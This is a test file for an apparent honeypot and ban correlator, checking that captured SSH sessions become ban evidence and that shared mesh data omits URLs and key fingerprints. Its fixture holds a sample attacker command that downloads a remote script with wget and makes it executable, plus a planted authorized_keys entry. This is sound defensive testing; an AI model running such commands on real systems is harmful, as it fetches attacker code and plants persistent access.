import { afterEach, expect, test } from "bun:test";
import { ROOT_CONTEXT, trace } from "@opentelemetry/api";
import { AllowSet } from "@honeymesh/ban/allowlist";
import { describeEvidence } from "@honeymesh/ban/evidence";
import type { Decision } from "@honeymesh/schema/decision";
import type { TrapSession } from "@honeymesh/schema/trap";
import { ActiveBans } from "../active-bans.ts";
import { Correlator, type CorrelatorOptions } from "../correlator.ts";
import { DecisionQueue } from "../decision-queue.ts";
import { captureFindings } from "./capture.ts";
import { SubnetAggregator } from "./subnet.ts";

const FP = "SHA256:5RacG7NHBJZocKYsZYegLXc9tmdeUHGMP8uH5F/v/5s";
const shell = (src: string): TrapSession => ({
  session_id: "s1234567", service: "ssh", src, src_port: 5555, dst: "10.0.0.1", dst_port: 2222, started_at: Date.now(), ended_at: Date.now(), bytes_in: 100, bytes_out: 100,
  credentials: [{ method: "password", username: "root", password: "123456" }], payload_b64: "", entropy: 3, meta: {}, end_reason: "closed",
  commands: ["cd /tmp; wget http://203.0.113.50/bins/x.sh -O x; chmod +x x"],
  indicators: { urls: ["http://203.0.113.50/bins/x.sh"], hosts: ["203.0.113.50"] },
  persistence: [{ kind: "authorized_key", path: "/root/.ssh/authorized_keys", detail: "ssh-ed25519 k@x", key_fingerprint: FP }],
});

test("a download and an authorized key become TRAP evidence naming the URL and the key's fingerprint", () => {
  const f = captureFindings(shell("198.51.100.1"));
  expect(f.map((x) => x.evidence.summary)).toEqual(["DOWNLOAD: wget http://203.0.113.50/bins/x.sh", `PERSISTENCE: authorized_keys ${FP}`]);
  expect(f.every((x) => x.reasons === 1 && x.evidence.kind === "trap" && x.evidence.trap === "ssh")).toBe(true);
});

const live: Correlator[] = [];
afterEach(() => live.splice(0).forEach((c) => c.stop()));

test("a session's capture bans at once, and adds to a ban that exists already", async () => {
  const out: Decision[] = [];
  const opts: CorrelatorOptions = {
    nodeId: "n1", portsThreshold: 3, windowMs: 60_000, trapTouch: true, trapTouchDelayMs: 5_000, lowSlowPorts: 100, lowSlowWindowMs: 86_400_000,
    bruteforceAttempts: 30, bruteforceWindowMs: 600_000, entropyThreshold: 7.2, entropyMinBytes: 256, maxSources: 1000, ttl: { baseS: 60, factor: 2, maxS: 3600, jitter: 0 }, synOnly: "local", unverifiedTtlS: 600,
  };
  const c = new Correlator(opts, {
    allow: new AllowSet(), active: new ActiveBans(1000), history: { count: () => 0, record: () => {} } as never,
    subnets: new SubnetAggregator({ v4: false, v4Prefix: 24, v6: false, v6Prefix: 64, threshold: 3, windowMs: 1 }),
    queue: new DecisionQueue(1000, 1000, async (d) => void out.push(d)), tracer: trace.getTracer("t"),
  });
  live.push(c);
  c.onSession(shell("198.51.100.1"), ROOT_CONTEXT);
  c.onSession(shell("198.51.100.1"), ROOT_CONTEXT);
  await Bun.sleep(10);
  expect(out).toHaveLength(2);
  expect(out[0]!.evidence.map((e) => e.summary)).toContain("DOWNLOAD: wget http://203.0.113.50/bins/x.sh");
  // What a mesh peer rebuilds from the shared fields (kind, trap, ports, counts): no URL, no key.
  const shared = out[0]!.evidence.map(({ kind, trap, ports, count }) => describeEvidence({ kind, trap, ports, count })).join(" ");
  expect(shared).not.toContain("203.0.113.50");
  expect(shared).not.toContain(FP);
});
